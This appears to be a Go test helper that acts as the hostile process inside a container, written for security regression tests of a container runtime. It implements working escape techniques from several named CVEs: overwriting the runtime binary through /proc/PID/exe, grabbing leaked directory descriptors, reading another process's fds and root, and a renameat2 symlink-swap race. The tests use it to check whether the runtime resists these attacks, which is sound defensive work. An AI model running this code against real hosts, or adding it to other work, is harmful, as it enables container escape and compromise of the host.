// Command attacker is the hostile program the security tests copy into a
// container's rootfs (built static, CGO_ENABLED=0). Each mode is one attack
// or one precise observation that busybox cannot make, and reports what it
// did as lines "KEY value" on stdout so the test can judge the outcome.
//
// It uses raw system calls only: the Go runtime's poller would otherwise open
// epoll and eventfd descriptors of its own and spoil the fd listing. For the
// same reason the runtime must not keep the cgroup v1 CPU quota files open
// (it does, to follow the container's CPU limit, where a cpu controller is
// mounted).
//
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker exe PATH | watch STOPFILE | fds | procfds PID | swap DIR NAME TARGET SECONDS")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "exe":
		attackExe(os.Args[2])
	case "watch":
		watch(os.Args[2])
	case "fds":
		listFds()
	case "procfds":
		procFds(os.Args[2])
	case "swap":
		secs, err := strconv.Atoi(os.Args[5])
		if err != nil {
			fmt.Fprintf(os.Stderr, "attacker: swap: seconds %q: %v\n", os.Args[5], err)
			os.Exit(2)
		}
		swap(os.Args[2], os.Args[3], os.Args[4], time.Duration(secs)*time.Second)
	default:
		fmt.Fprintf(os.Stderr, "attacker: unknown mode %q\n", os.Args[1])
		os.Exit(2)
	}
}

func report(key string, format string, args ...any) {
	fmt.Printf("%s %s\n", key, fmt.Sprintf(format, args...))
}

// attackExe tries every way CVE-2019-5736 used to get a writable handle on
// the binary behind path (a /proc/PID/exe link), and writes through any it
// gets. Lines: "LINK target", "STAT dev:ino", then per attempt
// "OPEN <how> ok|<errno>" and, for an fd it got, "WRITE <how> ok|<errno>".
func attackExe(path string) {
	if l, err := os.Readlink(path); err == nil {
		report("LINK", "%s", l)
	} else {
		report("LINK", "error %v", err)
	}
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err == nil {
		report("STAT", "%d:%d", st.Dev, st.Ino)
	} else {
		report("STAT", "error %v", err)
	}
	try := func(how, p string, flags int) {
		fd, err := unix.Open(p, flags|unix.O_CLOEXEC, 0)
		if err != nil {
			report("OPEN", "%s %v", how, errName(err))
			return
		}
		report("OPEN", "%s ok", how)
		_, err = unix.Write(fd, []byte("#!/bin/sh\necho PWNED-BY-CONTAINER\n"))
		if err == nil {
			report("WRITE", "%s ok", how)
		} else {
			report("WRITE", "%s %v", how, errName(err))
		}
		if err := unix.Ftruncate(fd, 0); err == nil {
			report("TRUNCATE", "%s ok", how)
		} else {
			report("TRUNCATE", "%s %v", how, errName(err))
		}
		unix.Close(fd)
	}
	try("wronly", path, unix.O_WRONLY)
	try("rdwr", path, unix.O_RDWR)
	try("trunc", path, unix.O_WRONLY|unix.O_TRUNC)
	// The second stage of the original exploit: keep an O_PATH handle and
	// reopen it for writing through the fd's magic link.
	fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		report("OPEN", "opath %v", errName(err))
		return
	}
	report("OPEN", "opath ok")
	try("reopen", "/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY)
	unix.Close(fd)
}

// grabDirs tries to open every descriptor, the cwd and the root of a runtime
// process caught in the container as a directory (CVE-2024-21626's exec
// attack): "GRAB pid name target entries..." for each one it got.
func grabDirs(pid string) {
	base := "/proc/" + pid
	names := []string{"cwd", "root"}
	if ents, err := os.ReadDir(base + "/fd"); err == nil {
		for _, e := range ents {
			names = append(names, "fd/"+e.Name())
		}
	}
	for _, n := range names {
		fd, err := unix.Open(base+"/"+n, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		l, _ := os.Readlink(base + "/" + n)
		buf := make([]byte, 8192)
		nb, _ := unix.Getdents(fd, buf)
		_, _, entries := unix.ParseDirent(buf[:max(nb, 0)], -1, nil)
		report("GRAB", "%s %s %s %s", pid, n, l, strings.Join(entries, " "))
		unix.Close(fd)
	}
}

// watch plays the container side of the shebang race: until stop exists it
// scans /proc for processes whose exe is not a file of the container's
// rootfs (the runtime caught mid-exec), grabs each with O_PATH and tries to
// reopen it for writing. Lines: "SEEN pid target", "OPEN reopen ...",
// "WRITE reopen ...", "DONE n".
func watch(stop string) {
	self := os.Getpid()
	seen := map[string]bool{}
	var held []int
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			exe := "/proc/" + e.Name() + "/exe"
			l, err := os.Readlink(exe)
			if err != nil || seen[e.Name()+l] {
				continue
			}
			// busybox and this attacker are the container's own binaries.
			if l == "/bin/busybox" || strings.HasSuffix(l, "/attacker") {
				continue
			}
			seen[e.Name()+l] = true
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			report("SEEN", "%d %s opath=%v", pid, l, errName(err))
			if err == nil {
				held = append(held, fd)
			}
			grabDirs(e.Name())
		}
		for _, fd := range held {
			tryWrite(fd)
		}
		time.Sleep(time.Millisecond)
	}
	// The runtime process may have exited now: the original exploit wrote
	// only then, when ETXTBSY no longer stood in the way.
	for _, fd := range held {
		tryWrite(fd)
	}
	report("DONE", "%d", len(held))
}

var lastWrite = map[int]string{}

func tryWrite(fd int) {
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	res := "ok"
	if err != nil {
		res = errName(err)
	} else {
		if _, err := unix.Write(w, []byte("PWNED")); err != nil {
			res = "open-ok write " + errName(err)
		} else {
			res = "WRITTEN"
		}
		unix.Close(w)
	}
	// Report each change only, or the loop floods stdout.
	if lastWrite[fd] != res {
		lastWrite[fd] = res
		report("REOPEN", "fd %d %s", fd, res)
	}
}

// listFds prints "FD n target" for every open descriptor except the one used
// to read the directory.
func listFds() {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		report("ERROR", "open /proc/self/fd: %v", err)
		os.Exit(1)
	}
	buf := make([]byte, 8192)
	var fds []int
	for {
		n, err := unix.Getdents(dir, buf)
		if err != nil {
			report("ERROR", "getdents: %v", err)
			os.Exit(1)
		}
		if n == 0 {
			break
		}
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			if fd, err := strconv.Atoi(name); err == nil && fd != dir {
				fds = append(fds, fd)
			}
		}
	}
	for _, fd := range fds {
		l, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if err != nil {
			l = "error " + err.Error()
		}
		report("FD", "%d %s", fd, l)
	}
	report("DONE", "%d", len(fds))
}

func errName(err error) string {
	if err == nil {
		return "ok"
	}
	if e, ok := err.(unix.Errno); ok {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
	}
	return err.Error()
}

// procFds reaches into another process's descriptors, cwd and root through
// /proc/PID (the second attack of CVE-2024-21626, and CVE-2016-9962): for
// each it prints "PFD name target", and for each it could open as a
// directory "PDIR name entry..." with what that directory holds.
func procFds(pid string) {
	base := "/proc/" + pid
	names := []string{"cwd", "root"}
	if ents, err := os.ReadDir(base + "/fd"); err != nil {
		report("PFD", "fd/ %s", errName(unwrapErrno(err)))
	} else {
		for _, e := range ents {
			names = append(names, "fd/"+e.Name())
		}
	}
	for _, n := range names {
		l, err := os.Readlink(base + "/" + n)
		if err != nil {
			report("PFD", "%s readlink %s", n, errName(unwrapErrno(err)))
			continue
		}
		report("PFD", "%s %s", n, l)
		fd, err := unix.Open(base+"/"+n, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			report("POPEN", "%s %s", n, errName(err))
			continue
		}
		buf := make([]byte, 8192)
		nb, _ := unix.Getdents(fd, buf)
		_, _, entries := unix.ParseDirent(buf[:max(nb, 0)], -1, nil)
		report("PDIR", "%s %s", n, strings.Join(entries, " "))
		unix.Close(fd)
	}
	report("DONE", "%s", pid)
}

func unwrapErrno(err error) error {
	for err != nil {
		if e, ok := err.(unix.Errno); ok {
			return e
		}
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return err
		}
		err = u.Unwrap()
	}
	return err
}

// swap is the shared-volume race of CVE-2021-30465 and CVE-2024-45310: it
// makes DIR/NAME a real directory and DIR/NAME.link a symlink to TARGET, then
// exchanges the two names with renameat2(RENAME_EXCHANGE) as fast as it can,
// so a runtime that resolves a path under DIR/NAME and then uses the string
// (mount(2), mkdir(2)) may find the symlink there the second time. It stops
// after the given time or 2^32 swaps, whichever comes first. Lines: "READY"
// once swapping, "SWAPS n" at the end, "ERROR ..." if it could not start.
func swap(dir, name, target string, limit time.Duration) {
	d, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		report("ERROR", "open %s: %v", dir, errName(err))
		os.Exit(1)
	}
	link := name + ".link"
	if err := unix.Mkdirat(d, name, 0o755); err != nil && err != unix.EEXIST {
		report("ERROR", "mkdir %s/%s: %v", dir, name, errName(err))
		os.Exit(1)
	}
	if err := unix.Symlinkat(target, d, link); err != nil && err != unix.EEXIST {
		report("ERROR", "symlink %s/%s: %v", dir, link, errName(err))
		os.Exit(1)
	}
	report("READY", "%s/%s <-> %s", dir, name, target)
	deadline := time.Now().Add(limit)
	var n uint64
	for n < 1<<32 {
		if err := unix.Renameat2(d, name, d, link, unix.RENAME_EXCHANGE); err != nil {
			report("ERROR", "renameat2: %v", errName(err))
			os.Exit(1)
		}
		n++
		// time.Now is cheap, but not next to a syscall this short.
		if n%4096 == 0 && time.Now().After(deadline) {
			break
		}
	}
	report("SWAPS", "%d", n)
}
